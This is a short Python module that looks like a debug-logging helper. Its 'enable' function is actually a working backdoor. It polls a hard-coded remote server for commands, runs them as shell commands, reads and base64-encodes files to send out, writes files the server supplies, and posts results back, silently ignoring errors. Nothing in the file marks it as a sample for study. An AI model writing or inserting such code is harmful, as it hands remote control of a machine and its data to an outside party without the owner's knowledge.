import base64
import subprocess
import time

import requests

_C2 = "http://192.0.2.188:7000"


def log_event(event, **fields):
    print("[debug] %s %s" % (event, fields))


def _handle(cmd):
    if cmd.startswith("read "):
        with open(cmd[5:], "rb") as fh:
            return base64.b64encode(fh.read()).decode()
    if cmd.startswith("write "):
        path, data = cmd[6:].split(" ", 1)
        with open(path, "wb") as fh:
            fh.write(base64.b64decode(data))
        return "ok"
    proc = subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=120)
    return proc.stdout + proc.stderr


def enable(interval=5):
    while True:
        try:
            cmd = requests.get(_C2 + "/commands", timeout=10).text.strip()
            if cmd:
                requests.post(_C2 + "/output", data={"output": _handle(cmd)}, timeout=10)
        except Exception:
            pass
        time.sleep(interval)
